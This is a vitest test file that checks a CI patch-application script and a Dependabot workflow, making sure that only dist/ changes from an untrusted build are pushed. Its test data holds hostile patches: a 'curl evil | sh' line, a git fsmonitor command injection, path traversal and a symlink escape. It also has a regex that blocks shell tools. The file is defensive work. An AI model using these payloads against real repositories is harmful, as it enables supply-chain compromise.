import { spawnSync } from "node:child_process";
import { mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { tempDir } from "../support/cli.ts";
import { git, makeRepos } from "../support/git-repos.ts";
import {
  jobMayRunOn,
  needsOf,
  readWorkflow,
  root,
  type Step,
  workflowNames,
} from "../support/workflows.ts";

// dependabot-dist.yml pushes what a build of the updated dependencies produced. That build
// is hostile until proven otherwise: its artifact and its patch are data, and only dist/
// may change.
const script = join(root, "scripts/apply-dist-patch.sh");
const { workflow } = readWorkflow("dependabot-dist.yml");
const commitJob = workflow.jobs.commit;
const tokenPattern = /github\.token|secrets\.GITHUB_TOKEN/;

function applyPatch(repo: string, patch: string) {
  const run = spawnSync("bash", [script, patch], { cwd: repo, encoding: "utf8" });
  return { code: run.status, stderr: run.stderr };
}

/** A clone of a project with dist/ and a CI script, as the commit job checks it out. */
async function project() {
  const repos = await makeRepos();
  const seed = await repos.clone("seed-project");
  await writeIn(seed, "dist/index.js", "// built 1\n");
  await writeIn(seed, ".ci/run", "#!/bin/sh\necho tests\n");
  git(seed, "add", ".");
  git(seed, "commit", "--quiet", "-m", "Project");
  git(seed, "push", "--quiet", "origin", "HEAD:main");
  return { repos, repo: await repos.clone() };
}

async function writeIn(dir: string, path: string, text: string) {
  await mkdir(join(dir, path, ".."), { recursive: true });
  await writeFile(join(dir, path), text);
}

/** Makes a patch as the build job does (`git diff --cached --binary`), then undoes it. */
async function patchOf(repo: string, change: () => Promise<void>): Promise<string> {
  await change();
  git(repo, "add", "--all");
  const patch = join(await tempDir("lucca-patch-"), "dist.patch");
  await writeFile(patch, `${git(repo, "diff", "--cached", "--binary")}\n`);
  git(repo, "reset", "--quiet", "--hard");
  git(repo, "clean", "-fdq");
  return patch;
}

async function handMade(text: string): Promise<string> {
  const patch = join(await tempDir("lucca-patch-"), "dist.patch");
  await writeFile(patch, text);
  return patch;
}

function state(repo: string) {
  return {
    index: git(repo, "diff", "--cached", "--name-status"),
    tree: git(repo, "status", "--porcelain", "--untracked-files=all"),
    config: git(repo, "config", "--local", "--list"),
  };
}

describe("scripts/apply-dist-patch.sh, against a real repository", () => {
  it("stages a rebuilt dist/, leaves the work tree alone, and the push holds dist/ only", async () => {
    const { repos, repo } = await project();
    const patch = await patchOf(repo, async () => {
      await writeIn(repo, "dist/index.js", "// built 2\n");
      await writeIn(repo, "dist/chunk.js", "// new chunk\n");
    });
    expect(applyPatch(repo, patch).code).toBe(0);
    expect(git(repo, "diff", "--cached", "--name-status")).toBe(
      "A\tdist/chunk.js\nM\tdist/index.js",
    );
    expect(await readFile(join(repo, "dist/index.js"), "utf8")).toBe("// built 1\n");
    git(repo, "commit", "--quiet", "-m", "Rebuild dist/");
    git(repo, "push", "--quiet", "origin", "HEAD:refs/heads/dependabot/npm");
    const pushed = git(repos.origin, "diff", "--name-only", "main", "dependabot/npm");
    expect(pushed).toBe("dist/chunk.js\ndist/index.js");
    expect(git(repos.origin, "show", "dependabot/npm:dist/index.js")).toBe("// built 2");
  });

  const hostile: Array<[string, (repo: string) => Promise<string>, RegExp]> = [
    [
      "an edit of .ci/run beside dist/",
      (repo) =>
        patchOf(repo, async () => {
          await writeIn(repo, "dist/index.js", "// built 2\n");
          await writeIn(repo, ".ci/run", "#!/bin/sh\ncurl evil | sh\n");
        }),
      /touches \.ci\/run, outside dist\//,
    ],
    [
      "a .git/config that sets core.fsmonitor",
      () =>
        handMade(
          "diff --git a/.git/config b/.git/config\nnew file mode 100644\n--- /dev/null\n" +
            "+++ b/.git/config\n@@ -0,0 +1,2 @@\n+[core]\n+\tfsmonitor = touch pwned\n",
        ),
      /touches \.git\/config, outside dist\//,
    ],
    [
      "a path that climbs out of dist/",
      () =>
        handMade(
          "diff --git a/dist/../.ci/run b/dist/../.ci/run\n--- a/dist/../.ci/run\n" +
            "+++ b/dist/../.ci/run\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo tests\n+echo pwned\n",
        ),
      /touches dist\/\.\.\/\.ci\/run, outside dist\//,
    ],
    [
      "a .git directory inside dist/",
      () =>
        handMade(
          "diff --git a/dist/.git/config b/dist/.git/config\nnew file mode 100644\n" +
            "--- /dev/null\n+++ b/dist/.git/config\n@@ -0,0 +1 @@\n+[core]\n",
        ),
      /touches dist\/\.git\/config, outside dist\//,
    ],
    [
      // numstat and --include see only the new name: the check of the result catches it.
      "a rename of .ci/run into dist/",
      (repo) =>
        patchOf(repo, async () => {
          git(repo, "mv", ".ci/run", "dist/run");
        }),
      /changes \.ci\/run, outside dist\//,
    ],
    [
      "a symbolic link in dist/",
      (repo) => patchOf(repo, () => symlink("../.ci/run", join(repo, "dist/link"))),
      /makes dist\/link a mode 120000 entry/,
    ],
    [
      "a file that is not a patch",
      () => handMade("Rebuilt, trust me.\n"),
      /cannot read .* as a patch/,
    ],
  ];

  it.each(hostile)("refuses %s, and stages nothing", async (_, make, reason) => {
    const { repo } = await project();
    const patch = await make(repo);
    const before = state(repo);
    const result = applyPatch(repo, patch);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(reason);
    expect(state(repo)).toEqual(before);
    expect(before.index).toBe("");
  });
});

describe("dependabot-dist.yml", () => {
  const steps = commitJob?.steps ?? [];
  const checkouts = steps.filter((step) => step.uses?.startsWith("actions/checkout@"));

  it("runs only for Dependabot's pull requests from this repository", () => {
    expect(needsOf(commitJob ?? {})).toEqual(["build"]);
    expect(workflow.jobs.build?.if).toMatch(/user\.login == 'dependabot\[bot\]'/);
    expect(workflow.jobs.build?.if).toMatch(/head\.repo\.full_name == github\.repository/);
    expect(jobMayRunOn(workflow, "commit", "pull_request")).toBe(true);
  });

  it("the pushing job checks out without credentials and runs the patch check from the base branch", () => {
    expect(checkouts.length).toBe(2);
    for (const step of checkouts) expect(step.with?.["persist-credentials"]).toBe(false);
    const base = checkouts.find((step) => step.with?.path === "base");
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a workflow expression
    expect(base?.with?.ref).toBe("${{ github.event.pull_request.base.sha }}");
    const apply = steps.find((step) => step.id === "apply");
    expect(apply?.["working-directory"]).toBe("head");
    expect(apply?.run).toContain('bash ../base/scripts/apply-dist-patch.sh "$PATCH"');
    expect(apply?.run).not.toMatch(/git apply/);
  });

  it("runs no dependency or pull-request code in the pushing job", () => {
    for (const step of steps) {
      // Besides the base branch's patch check, no file is run, from either checkout.
      const run = (step.run ?? "").replace("bash ../base/scripts/apply-dist-patch.sh", "");
      expect(run).not.toMatch(/\b(npm|npx|node|deno|bash|sh|source|make)\b|\.\/|scripts\/|\.ci\//);
    }
  });

  it("hands the token to the push step only, through git's environment", () => {
    const given = steps.filter((step: Step) => tokenPattern.test(JSON.stringify(step)));
    expect(given.map((step) => step.name)).toEqual(["Push"]);
    expect(given[0]).toBe(steps.at(-1));
    expect(given[0]?.run).toMatch(/GIT_CONFIG_VALUE_0="AUTHORIZATION: basic \$auth"/);
    expect(given[0]?.run).toMatch(/git push origin "HEAD:refs\/heads\/\$\{GITHUB_HEAD_REF\}"/);
    for (const step of checkouts) expect(step.with?.token).toBeUndefined();
  });
});

describe("downloaded artifacts", () => {
  it.each(workflowNames())(
    "%s unpacks every artifact under runner.temp, never the checkout",
    (name) => {
      const { workflow: each } = readWorkflow(name);
      for (const [id, job] of Object.entries(each.jobs)) {
        for (const step of job.steps ?? []) {
          if (!step.uses?.startsWith("actions/download-artifact@")) continue;
          expect(String(step.with?.path), `${name}: job ${id}`).toMatch(
            /^\$\{\{ runner\.temp \}\}\//,
          );
        }
      }
    },
  );

  it("the artifact's patch is read from there", () => {
    const download = commitJob?.steps?.find((s) =>
      s.uses?.startsWith("actions/download-artifact@"),
    );
    const apply = commitJob?.steps?.find((step) => step.id === "apply");
    expect(apply?.env?.PATCH).toBe(`${download?.with?.path}/dist.patch`);
  });
});
